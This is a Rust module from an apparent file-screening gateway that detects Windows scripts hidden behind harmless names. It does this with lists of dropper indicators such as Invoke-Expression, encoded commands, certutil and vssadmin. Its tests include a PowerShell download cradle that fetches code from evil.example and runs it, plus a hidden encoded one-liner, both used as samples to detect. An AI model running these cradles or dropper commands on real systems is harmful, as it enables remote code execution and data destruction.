//! Script detection by content: PowerShell, VBScript, JScript and batch files whose name says
//! `.txt` or `.csv` (or nothing) must still be recognised, because Windows runs them by what
//! the user renames them to, and a gateway that trusts the name lets them through.
//!
//! Each non-empty line is matched against indicators of each language:
//! - **strong** indicators are the constructs malware and droppers use and prose does not
//!   (`Invoke-Expression`, `-EncodedCommand`, `New-Object Net.WebClient`, `CreateObject(`,
//!   `WScript.`, `new ActiveXObject(`, `@echo off`, `%~dp0`…);
//! - **medium** indicators are ordinary statements of the language, shaped so that a sentence
//!   rarely matches (`Dim x`, `End Sub`, `Set x = …`, `$x = …`, `set NAME=…`, `goto label`);
//! - JScript also has **generic** C-like lines (`}`, `if (…) {`, `return …;`) that support a
//!   verdict but cannot make one alone, so that C or Java source is not taken for JScript.
//!
//! Comment lines of a language do not count for or against it. A language is detected when
//! its indicator lines are both numerous enough and a large enough share of the code lines:
//! a README that quotes one PowerShell command among its paragraphs stays text, a script with
//! a long comment banner does not. The thresholds were checked against every text-like file
//! of the shared corpus and of `test-corpus/` (no false positive; see
//! `tests/script_false_positives.rs`).

use crate::kind::Kind;

/// Characters of text examined (a large junk prefix does not hide a script for long).
const SAMPLE_CHARS: usize = 256 * 1024;
/// Lines examined.
const MAX_LINES: usize = 5000;

/// The script kind (`ps1`, `vbs`, `js`, `bat`) that `text` reads as, if any: the content
/// heuristics [`crate::sniff`] applies to text whose name does not claim a script.
///
/// ```
/// use kiyome_core::{script_kind, Kind};
/// assert_eq!(script_kind("@echo off\r\nstart calc.exe\r\n"), Some(Kind::Bat));
/// assert_eq!(script_kind("If it rains, then we stay home.\n"), None);
/// ```
pub fn script_kind(text: &str) -> Option<Kind> {
    detect(text)
}

fn detect(text: &str) -> Option<Kind> {
    let t = text.trim_start_matches('\u{feff}').trim_start();
    if t.starts_with("#@~^") {
        // Script Encoder output (.vbe / .jse): only the Windows script host runs it.
        return Some(Kind::Vbs);
    }
    let sample: &str = match t.char_indices().nth(SAMPLE_CHARS) {
        Some((i, _)) => &t[..i],
        None => t,
    };
    let mut tallies = [
        Tally::new(Kind::Ps1),
        Tally::new(Kind::Vbs),
        Tally::new(Kind::Js),
        Tally::new(Kind::Bat),
    ];
    let mut in_ps_block = false;
    let mut in_js_block = false;
    let mut in_fence = false;
    let mut first = true;
    for raw in sample.lines().take(MAX_LINES) {
        let line = raw.trim();
        if line.is_empty() {
            continue;
        }
        let lower = line.to_ascii_lowercase();
        // cmd runs every line it can and skips the rest, so prose padding cannot hide a file
        // that opens the way batch files do.
        if first && (lower.starts_with("@echo off") || lower.starts_with("echo off")) {
            return Some(Kind::Bat);
        }
        first = false;
        // Markdown code fences: what they hold is an example inside a document. VBScript and
        // JScript refuse to run a file with fence lines (a syntax error aborts the whole file),
        // so for them fenced lines are quotation; PowerShell and cmd run past such lines, so
        // for them the lines still count.
        let fence = lower.starts_with("```") || lower.starts_with("~~~");
        if fence {
            in_fence = !in_fence;
        }
        let quoted = fence || in_fence;
        // PowerShell block comments `<# … #>` and C-style `/* … */`.
        let ps_comment = in_ps_block || lower.starts_with('#') || lower.starts_with("<#");
        if lower.starts_with("<#") && !lower.contains("#>") {
            in_ps_block = true;
        } else if in_ps_block && lower.contains("#>") {
            in_ps_block = false;
        }
        let js_comment = in_js_block || lower.starts_with("//") || lower.starts_with("/*");
        if lower.starts_with("/*") && !lower.contains("*/") {
            in_js_block = true;
        } else if in_js_block && lower.contains("*/") {
            in_js_block = false;
        }
        let vbs_comment = lower.starts_with('\'') || lower.starts_with("rem ") || lower == "rem";
        let bat_comment = lower.starts_with("::")
            || lower.starts_with("rem ")
            || lower.starts_with("@rem ")
            || lower == "rem";
        let sentence = line.ends_with(['.', '。', '?', '!', '？', '！']);
        tallies[0].line(ps_comment, powershell(line, &lower), sentence);
        tallies[1].line(vbs_comment || quoted, vbscript(&lower), sentence);
        tallies[2].line(js_comment || quoted, jscript(&lower), sentence);
        tallies[3].line(bat_comment, batch(&lower), sentence);
    }
    tallies
        .iter()
        .filter(|t| t.detected())
        .max_by_key(|t| t.score())
        .map(|t| t.kind)
}

/// What one line says about one language.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Hit {
    None,
    /// C-like syntax shared with many languages (JScript only).
    Generic,
    Medium,
    Strong,
}

struct Tally {
    kind: Kind,
    code_lines: usize,
    strong: usize,
    medium: usize,
    generic: usize,
    /// Code lines that end like a sentence (`.`, `。`, `?`, `!`).
    sentences: usize,
}

impl Tally {
    fn new(kind: Kind) -> Tally {
        Tally {
            kind,
            code_lines: 0,
            strong: 0,
            medium: 0,
            generic: 0,
            sentences: 0,
        }
    }

    fn line(&mut self, comment: bool, hit: Hit, sentence: bool) {
        if comment {
            return;
        }
        self.code_lines += 1;
        self.sentences += usize::from(sentence);
        match hit {
            Hit::Strong => self.strong += 1,
            Hit::Medium => self.medium += 1,
            Hit::Generic => self.generic += 1,
            Hit::None => {}
        }
    }

    fn score(&self) -> usize {
        4 * self.strong + 2 * self.medium + self.generic
    }

    fn detected(&self) -> bool {
        let specific = self.strong + self.medium;
        let hits = specific + self.generic;
        let n = self.code_lines.max(1);
        // A one- or two-line file: one strong indicator is the whole story (`powershell -enc …`),
        // unless the lines read as sentences ("Never call eval() on input.").
        if n <= 2 && self.strong >= 1 && self.sentences == 0 {
            return true;
        }
        // Two dropper constructs: prose quotes one, rarely two; padding must then outnumber
        // the code twenty to one.
        if self.strong >= 2 && hits * 20 >= n {
            return true;
        }
        // Strong evidence in a file that reads as code at least a fifth of the time.
        if self.strong >= 1 && specific >= 2 && hits * 5 >= n {
            return true;
        }
        // Ordinary statements only: most lines must be code.
        specific >= 3 && hits * 10 >= n * 6
    }
}

fn any(hay: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| hay.contains(n))
}

/// When `s` starts with `word` and then an identifier, what follows the identifier.
fn ident_after<'a>(s: &'a str, word: &str) -> Option<&'a str> {
    let rest = s.strip_prefix(word)?;
    let first = rest.chars().next()?;
    if !(first.is_ascii_alphabetic() || first == '_') {
        return None;
    }
    let end = rest
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(rest.len());
    Some(&rest[end..])
}

/// A base64 run of at least 40 characters right after one of `flags` (`-enc SQBFAFgA…`).
fn encoded_after_flag(lower: &str, flags: &[&str]) -> bool {
    flags.iter().any(|f| {
        lower.match_indices(f).any(|(i, _)| {
            let rest = lower[i + f.len()..].trim_start();
            let run = rest
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
                .count();
            run >= 40
        })
    })
}

const PS_VERBS: &[&str] = &[
    "get",
    "set",
    "new",
    "remove",
    "add",
    "write",
    "out",
    "invoke",
    "start",
    "stop",
    "test",
    "import",
    "export",
    "convertto",
    "convertfrom",
    "select",
    "where",
    "foreach",
    "sort",
    "format",
    "copy",
    "move",
    "rename",
    "clear",
    "read",
    "wait",
    "register",
    "enable",
    "disable",
    "resolve",
    "join",
    "split",
    "measure",
    "compress",
    "expand",
];

/// A cmdlet name `Verb-Noun` with an approved verb at the start of a word.
fn has_cmdlet(line: &str) -> bool {
    line.match_indices('-').any(|(i, _)| {
        let before = &line[..i];
        // ASCII letters are one byte each: the verb's start is a char boundary.
        let verb_len = before
            .bytes()
            .rev()
            .take_while(u8::is_ascii_alphabetic)
            .count();
        let verb = before[before.len() - verb_len..].to_ascii_lowercase();
        let after = &line[i + 1..];
        let noun: String = after
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        PS_VERBS.contains(&verb.as_str())
            && noun.len() >= 3
            && noun.starts_with(|c: char| c.is_ascii_uppercase())
            && noun.chars().skip(1).any(|c| c.is_ascii_lowercase())
    })
}

fn powershell(line: &str, lower: &str) -> Hit {
    const STRONG: &[&str] = &[
        "invoke-expression",
        "iex(",
        "iex (",
        "|iex",
        "| iex",
        "-encodedcommand",
        "net.webclient",
        ".downloadstring(",
        ".downloadfile(",
        "invoke-webrequest",
        "start-bitstransfer",
        "frombase64string(",
        "[system.convert]::",
        "[convert]::",
        "set-executionpolicy",
        "-executionpolicy bypass",
        "-ep bypass",
        "-windowstyle hidden",
        "-w hidden",
        "[reflection.assembly]::",
        "[system.reflection.assembly]::",
        "new-object -comobject",
        "add-type -typedefinition",
        "add-mppreference",
        "[system.text.encoding]::",
        "[text.encoding]::",
    ];
    if any(lower, STRONG) || encoded_after_flag(lower, &["-enc ", "-ec ", "-e "]) {
        return Hit::Strong;
    }
    let assign = lower.starts_with('$')
        && ident_after(&lower[1..], "")
            .map(|rest| {
                let r = rest.trim_start();
                r.starts_with('=') && !r.starts_with("==")
                    || r.starts_with("+=")
                    || r.starts_with("-=")
            })
            .unwrap_or(false);
    let medium = assign
        || lower.starts_with("param(")
        || lower.starts_with("param (")
        || lower.starts_with("[cmdletbinding(")
        || lower.contains("$env:")
        || lower.contains("$_.")
        || lower.contains("$psscriptroot")
        || (lower.contains('$')
            && any(
                lower,
                &[
                    " -eq ",
                    " -ne ",
                    " -like ",
                    " -match ",
                    " -notmatch ",
                    " -gt ",
                    " -lt ",
                ],
            ))
        || (lower.starts_with("foreach (") && lower.contains('$'))
        || (lower.starts_with("function ") && (lower.ends_with('{') || has_cmdlet(line)))
        || lower.starts_with("} catch {")
        || lower.starts_with("} else {")
        || any(lower, &["$null", "$true", "$false"])
        || has_cmdlet(line);
    if medium { Hit::Medium } else { Hit::None }
}

fn vbscript(lower: &str) -> Hit {
    const STRONG: &[&str] = &[
        "createobject(",
        "getobject(",
        "wscript.",
        "executeglobal",
        "scripting.filesystemobject",
        "shell.application",
        "msxml2.xmlhttp",
        "msxml2.serverxmlhttp",
        "winhttp.winhttprequest",
        "adodb.stream",
        ".shellexecute",
        "on error resume next",
    ];
    if any(lower, STRONG) {
        return Hit::Strong;
    }
    let starts = |w: &str| lower.starts_with(w);
    let set_assign = ident_after(lower, "set ")
        .map(|r| r.trim_start().starts_with('='))
        .unwrap_or(false);
    let dim = ident_after(lower, "dim ").is_some();
    let sub_or_function = [
        "sub ",
        "function ",
        "private sub ",
        "public sub ",
        "private function ",
        "public function ",
    ]
    .iter()
    .any(|w| {
        ident_after(lower, w)
            .map(|r| r.is_empty() || r.starts_with('('))
            .unwrap_or(false)
    });
    let medium = set_assign
        || dim
        || sub_or_function
        || matches!(
            lower,
            "end sub"
                | "end function"
                | "end if"
                | "next"
                | "wend"
                | "loop"
                | "option explicit"
                | "end select"
                | "end with"
        )
        || (starts("if ") && lower.ends_with(" then"))
        || (starts("elseif ") && lower.ends_with(" then"))
        || starts("for each ")
        || (starts("for ") && lower.contains(" = ") && lower.contains(" to "))
        || (starts("do while ") || starts("do until "))
        || starts("msgbox ")
        || starts("msgbox(")
        || (ident_after(lower, "const ")
            .map(|r| r.trim_start().starts_with('='))
            .unwrap_or(false));
    if medium { Hit::Medium } else { Hit::None }
}

fn jscript(lower: &str) -> Hit {
    const STRONG: &[&str] = &[
        "activexobject(",
        "wscript.",
        "getobject(",
        "string.fromcharcode(",
        "eval(",
        "new function(",
        ".shellexecute(",
        "scripting.filesystemobject",
        "msxml2.xmlhttp",
        "adodb.stream",
    ];
    if any(lower, STRONG) {
        return Hit::Strong;
    }
    let decl = ["var ", "let ", "const "].iter().any(|w| {
        ident_after(lower, w)
            .map(|r| {
                let r = r.trim_start();
                r.starts_with('=') || r.starts_with(';') || r.starts_with(',')
            })
            .unwrap_or(false)
    });
    let function = (lower.starts_with("function ")
        || lower.contains("= function(")
        || lower.contains("= function ("))
        && lower.contains('(')
        && (lower.ends_with('{') || lower.ends_with(')'));
    let medium = decl
        || function
        || lower.contains(") => {")
        || any(
            lower,
            &[
                "console.log(",
                "document.write(",
                "window.location",
                "module.exports",
                "require(\"",
            ],
        );
    if medium {
        return Hit::Medium;
    }
    let generic = matches!(lower, "}" | "};" | "});" | "})();" | "{")
        || ((lower.starts_with("if (")
            || lower.starts_with("for (")
            || lower.starts_with("while ("))
            && lower.ends_with('{'))
        || lower.starts_with("} else")
        || lower.starts_with("} catch")
        || lower.starts_with("try {")
        || (lower.starts_with("return ") && lower.ends_with(';'))
        || (lower.ends_with(");") && lower.contains('('));
    if generic { Hit::Generic } else { Hit::None }
}

fn batch(lower: &str) -> Hit {
    let l = lower.strip_prefix('@').unwrap_or(lower);
    // Anywhere on a line: constructs no other language and no prose has.
    const STRONG: &[&str] = &[
        "%~dp0",
        "%~f0",
        "%~n0",
        "%~nx0",
        "%comspec%",
        "setlocal enabledelayedexpansion",
        "goto :eof",
        "exit /b",
    ];
    // At the start of a line only: a command a dropper runs (inside another language's
    // string they say nothing about the file itself).
    const STRONG_COMMANDS: &[&str] = &[
        "echo off",
        "cmd /c ",
        "cmd.exe /c ",
        "cmd /k ",
        "powershell ",
        "powershell.exe ",
        "mshta ",
        "mshta.exe ",
        "rundll32 ",
        "rundll32.exe ",
        "regsvr32 ",
        "regsvr32.exe ",
        "schtasks /create",
        "certutil -urlcache",
        "certutil.exe -urlcache",
        "certutil -decode",
        "bitsadmin /transfer",
        "wmic process call create",
        "reg add hk",
        "vssadmin delete shadows",
    ];
    if any(l, STRONG) || STRONG_COMMANDS.iter().any(|w| l.starts_with(w)) {
        return Hit::Strong;
    }
    let starts = |w: &str| l.starts_with(w);
    let set_var = ident_after(l, "set ")
        .map(|r| r.starts_with('='))
        .unwrap_or(false)
        || starts("set /a ")
        || starts("set /p ")
        || starts("set \"");
    let label = l.len() > 1
        && l.starts_with(':')
        && !l.starts_with("::")
        && l[1..]
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
    let medium = set_var
        || label
        || BATCH_STATEMENTS.iter().any(|w| starts(w))
        || matches!(l, "pause" | "cls" | "exit" | "popd")
        || any(l, &[">nul", "> nul", "2>&1", "%errorlevel%", "%%~"])
        || (has_percent_var(l) && BATCH_COMMANDS.iter().any(|w| starts(w)));
    if medium { Hit::Medium } else { Hit::None }
}

/// Line starts that are batch statements (and rarely the start of a sentence).
const BATCH_STATEMENTS: &[&str] = &[
    "if exist ",
    "if not ",
    "if errorlevel ",
    "if \"%",
    "if %",
    "if /i ",
    "if defined ",
    "for %%",
    "for /f ",
    "for /l ",
    "for /r ",
    "for /d ",
    "goto ",
    "call :",
    "start \"\" ",
    "start /b ",
    "start /min ",
    "del /f ",
    "del /q ",
    "copy /y ",
    "timeout /t ",
    "cd /d ",
    "pushd ",
    "setlocal",
    "endlocal",
    "chcp ",
];

/// Commands whose line, with a `%NAME%` reference, reads as batch.
const BATCH_COMMANDS: &[&str] = &[
    "echo ", "call ", "start ", "copy ", "move ", "del ", "cd ", "mkdir ", "md ", "rd ", "rmdir ",
    "type ", "if ", "set ",
];

/// A `%NAME%` variable reference.
fn has_percent_var(l: &str) -> bool {
    let b = l.as_bytes();
    let mut i = 0;
    while let Some(p) = l[i..].find('%') {
        let start = i + p + 1;
        let len = b[start..]
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        if len >= 2 && b.get(start + len) == Some(&b'%') {
            return true;
        }
        i = start;
        if i >= b.len() {
            break;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_download_cradle() {
        let s = "$url = 'http://evil.example/a.ps1'\r\n$wc = New-Object Net.WebClient\r\nIEX ($wc.DownloadString($url))\r\n";
        assert_eq!(detect(s), Some(Kind::Ps1));
        assert_eq!(
            detect(
                "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
            ),
            Some(Kind::Bat),
            "a one-line command is a batch file starting PowerShell"
        );
        let module = "<#\n.SYNOPSIS\nBackup helper.\n#>\nparam(\n  [string]$Path\n)\n$env:TEMP\nGet-ChildItem -Path $Path | ForEach-Object { Copy-Item $_.FullName $env:TEMP }\nWrite-Host \"done\"\n";
        assert_eq!(detect(module), Some(Kind::Ps1));
    }

    #[test]
    fn vbscript_and_jscript() {
        let vbs = "Option Explicit\nDim sh\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc.exe\", 0\n";
        assert_eq!(detect(vbs), Some(Kind::Vbs));
        let sub = "' helper\nSub Main()\n  MsgBox \"hi\"\nEnd Sub\nMain\n";
        assert_eq!(detect(sub), Some(Kind::Vbs));
        let js = "var sh = new ActiveXObject(\"WScript.Shell\");\nvar f = sh.ExpandEnvironmentStrings(\"%TEMP%\");\nsh.Run(\"cmd /c calc\", 0);\n";
        assert_eq!(detect(js), Some(Kind::Js));
        assert_eq!(detect("#@~^XAAAAA==...^#~@"), Some(Kind::Vbs));
    }

    #[test]
    fn batch_files() {
        assert_eq!(detect("@echo off\r\nstart calc.exe\r\n"), Some(Kind::Bat));
        let padded = format!(
            "@echo off\r\nstart calc.exe\r\n{}",
            "This line is prose padding.\r\n".repeat(200)
        );
        assert_eq!(
            detect(&padded),
            Some(Kind::Bat),
            "prose padding after @echo off"
        );
        let b = "setlocal\nset TARGET=%APPDATA%\\x\nif not exist \"%TARGET%\" mkdir \"%TARGET%\"\ncopy /y a.dll \"%TARGET%\"\ngoto done\n:done\nendlocal\n";
        assert_eq!(detect(b), Some(Kind::Bat));
    }

    #[test]
    fn never_panics_on_multibyte_text_around_indicators() {
        // Every indicator with multi-byte characters glued to both sides (the byte offsets
        // of a match are then never char boundaries but for the match itself).
        let pieces = [
            "Get-ChildItem",
            "-enc ",
            "$x =",
            "set A=",
            ":label",
            "%TEMP%",
            "Dim x",
            "Sub a(",
            "var a =",
            "if (",
            "@echo off",
            "$env:",
            "#@~^",
            "<#",
            "/*",
            "'",
            "-",
            "$",
            "%",
            ":",
        ];
        for p in pieces {
            for glue in ["é", "日本", "\u{1F600}", "ｱ", ""] {
                let s = format!("{glue}{p}{glue}\n{p}{glue}{p}\n{glue}-{glue}\n%{glue}%\n");
                let _ = detect(&s);
            }
        }
    }

    #[test]
    fn prose_and_data_are_not_scripts() {
        let en = "Dear colleague,\n\nIf you have questions, then please call.\nSet up the meeting for Monday.\nNext week we review the budget.\nThe attacker used Invoke-Expression to run code, see the advisory.\nRegards,\nTaro\n";
        assert_eq!(detect(en), None);
        assert_eq!(detect("Never call eval() on untrusted input."), None);
        assert_eq!(
            detect("WScript.Shell を使うスクリプトは遮断されます。"),
            None
        );
        let ja = "お世話になっております。\n会議資料を送付します。\n令和8年度の予算について、ご確認ください。\n";
        assert_eq!(detect(ja), None);
        let csv = "id,name,set,if,dim\n1,foo,bar,then,end\n2,\"a, b\",c;,d,e\n";
        assert_eq!(detect(csv), None);
        let c = "#include <stdio.h>\nint main(void) {\n  if (x) {\n    return 1;\n  }\n  printf(\"x\");\n}\n";
        assert_eq!(detect(c), None, "C source is not JScript");
        let json = "{\n  \"a\": [1, 2],\n  \"b\": {\"c\": true}\n}\n";
        assert_eq!(detect(json), None);
        let js_doc = format!(
            "# REPL\n\nThe default evaluator wraps `eval()`.\n\n```js\n{}```\n\nMore prose.\n",
            "const repl = require('node:repl');\nconst r = repl.start('> ');\n".repeat(20)
        );
        assert_eq!(
            detect(&js_doc),
            None,
            "a Markdown page of JavaScript examples"
        );
        let md = "# Install\n\nRun the installer, then restart.\n\n## Notes\n\nSet the proxy in the settings dialog.\nIf it fails, then call support.\n";
        assert_eq!(detect(md), None);
    }
}
